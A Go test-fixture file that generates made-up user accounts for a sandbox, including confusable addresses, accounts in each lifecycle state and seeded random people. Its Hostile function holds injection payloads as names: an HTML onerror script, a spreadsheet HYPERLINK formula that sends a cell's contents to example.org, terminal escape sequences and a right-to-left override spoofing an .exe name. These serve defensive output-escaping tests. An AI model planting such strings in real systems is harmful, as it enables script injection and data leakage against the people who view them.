package sandbox

import (
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"time"

	"github.com/usherhq/usher/flows"
)

// A Person is an account of a stand-in, as its server knows it.
type Person struct {
	ID              string
	Email           string
	First, Last     string
	Roles           []string // our words; the first is the main one
	State           flows.State
	PasswordExpired bool
	LastActive      time.Time // zero: never
	Workspaces      int       // in how many workspaces
	Holdings        []flows.Holding

	// Resource is all that a service keeps of the account, as SCIM names it, without what the server
	// makes up ("id", "meta"). It is never changed, only replaced.
	Resource map[string]any

	since time.Time // when a service made the account
	twin  bool      // stands in the list only for the fault duplicate_address
}

// Name returns the first and last name with one blank between.
func (p Person) Name() string { return strings.TrimSpace(p.First + " " + p.Last) }

// Confusable returns active people without open work whose addresses are easily taken for one
// another: ana.lopez@example.com and her neighbours.
func Confusable(role string) []Person {
	who := func(email, first, last string) Person {
		return Person{Email: email, First: first, Last: last, Roles: []string{role}, State: flows.Active}
	}
	return []Person{
		who("ana.lopez@example.com", "Ana", "Lopez"),
		who("ana.lopez+test@example.com", "Ana", "Lopez"),
		who("xana.lopez@example.com", "Xana", "Lopez"),
		who("ana.lopez@example.org", "Ana", "López"),
		who("ana.lopez@example.com.example.org", "Ana", "Lopez"),
	}
}

// OneOfEach returns one person per state that a test wants to find under a known address:
// ivy.pending, otto.expired, dora.gone, pia.stale (password expired) and hal.holder (three open
// pieces of work, where the app has any), all at example.com.
func OneOfEach(role string) []Person {
	who := func(email, first, last string, st flows.State) Person {
		return Person{Email: email + "@example.com", First: first, Last: last, Roles: []string{role}, State: st}
	}
	stale := who("pia.stale", "Pia", "Stale", flows.Active)
	stale.PasswordExpired = true
	holder := who("hal.holder", "Hal", "Holder", flows.Active)
	holder.Holdings = make([]flows.Holding, 3) // filled in by Config.Holding
	return []Person{
		who("ivy.pending", "Ivy", "Pending", flows.Invited),
		who("otto.expired", "Otto", "Expired", flows.InviteExpired),
		who("dora.gone", "Dora", "Gone", flows.Deactivated),
		stale, holder,
	}
}

// Settled returns the people as a service shows them that knows only active and deactivated accounts:
// an invitation, also an expired one, is an active account, and no password is expired.
func Settled(people []Person) []Person {
	out := slices.Clone(people)
	for i := range out {
		out[i].PasswordExpired = false
		if out[i].State != flows.Deactivated {
			out[i].State = flows.Active
		}
	}
	return out
}

// Hostile returns active people whose names try to do harm where they are shown.
func Hostile(role string) []Person {
	who := func(email, first, last string) Person {
		return Person{Email: email + "@example.com", First: first, Last: last, Roles: []string{role}, State: flows.Active}
	}
	return []Person{
		who("mallory.markup", "<img src=x onerror=document.title='owned'>", "Markup"),
		who("fred.formula", `=HYPERLINK("http://example.org/?"&A1,"Fred")`, "Formula"),
		who("esther.escape", "\x1b[31mEsther\x1b[2J\x1b]0;owned\x07", "Escape"),
		who("rita.rtl", "Rita \u202egpj.exe", "Override"),
		who("emil.emoji", "Emil 🦊", "Fuchs"),
		who("lena.long", strings.Repeat("Maximiliana-", 12)+"Lena", "von und zu Hohenlohe-Waldenburg-Schillingsfürst"),
	}
}

// populate makes up the accounts: the admin's, the fixed ones, and the rest by the seed.
func populate(cfg Config) ([]*Person, error) {
	rng := rand.New(rand.NewPCG(uint64(cfg.Seed), 0x75736865)) //nolint:gosec // made-up people, not secrets
	now := cfg.Now().UTC().Truncate(time.Minute)
	admin := cfg.Admin
	admin.State, admin.LastActive = flows.Active, now
	people := []*Person{&admin}
	taken := map[string]bool{strings.ToLower(admin.Email): true}
	for _, p := range cfg.Fixed {
		if len(people) >= cfg.Users {
			break
		}
		if taken[strings.ToLower(p.Email)] {
			return nil, fmt.Errorf("two fixed people have the address %s", p.Email)
		}
		taken[strings.ToLower(p.Email)] = true
		p.Roles = slices.Clone(p.Roles)
		p.LastActive = now.Add(-time.Duration(len(people)) * 25 * time.Hour)
		people = append(people, &p)
	}
	for len(people) < cfg.Users {
		p := draw(rng, cfg, now)
		p.Email = address(rng, p, taken)
		people = append(people, p)
	}
	for i, p := range people {
		p.ID = fmt.Sprintf("usr_%06d", 100000+i*7+rng.IntN(7))
		p.Workspaces = or(p.Workspaces, 1+rng.IntN(4))
		if p.State == flows.Invited || p.State == flows.InviteExpired {
			p.LastActive = time.Time{}
		}
		for j := range p.Holdings {
			if cfg.Holding == nil {
				p.Holdings = nil
				break
			}
			p.Holdings[j] = cfg.Holding(i*10 + j)
		}
	}
	return people, nil
}

func draw(rng *rand.Rand, cfg Config, now time.Time) *Person {
	p := &Person{
		First: firstNames[rng.IntN(len(firstNames))], Last: lastNames[rng.IntN(len(lastNames))],
		Roles: []string{pick(rng, cfg.Roles)}, State: flows.State(pick(rng, cfg.States)),
		LastActive: now.Add(-time.Duration(rng.IntN(200*24*60)) * time.Minute),
	}
	if rng.IntN(100) < cfg.Several {
		if second := pick(rng, cfg.Roles); second != p.Roles[0] {
			p.Roles = append(p.Roles, second)
		}
	}
	p.PasswordExpired = p.State == flows.Active && rng.IntN(100) < cfg.Expired
	if p.State == flows.Active && rng.IntN(10) == 0 {
		p.Holdings = make([]flows.Holding, 1+rng.IntN(4))
	}
	return p
}

func pick(rng *rand.Rand, from []Weighted) string {
	sum := 0
	for _, w := range from {
		sum += w.Weight
	}
	n := rng.IntN(max(sum, 1))
	for _, w := range from {
		if n -= w.Weight; n < 0 {
			return w.Word
		}
	}
	return from[0].Word
}

// address makes a free address from a name: first.last, then with a number.
func address(rng *rand.Rand, p *Person, taken map[string]bool) string {
	local := plain(p.First) + "." + plain(p.Last)
	domain := []string{"example.com", "example.com", "example.com", "example.org"}[rng.IntN(4)]
	for n := 1; ; n++ {
		a := local + "@" + domain
		if n > 1 {
			a = fmt.Sprintf("%s%d@%s", local, n, domain)
		}
		if !taken[a] {
			taken[a] = true
			return a
		}
	}
}

// plain turns a name into what stands in an address.
func plain(name string) string {
	var b strings.Builder
	for _, r := range strings.ToLower(name) {
		if a, ok := ascii[r]; ok {
			b.WriteString(a)
		} else if r >= 'a' && r <= 'z' || r == '-' {
			b.WriteRune(r)
		}
	}
	return b.String()
}
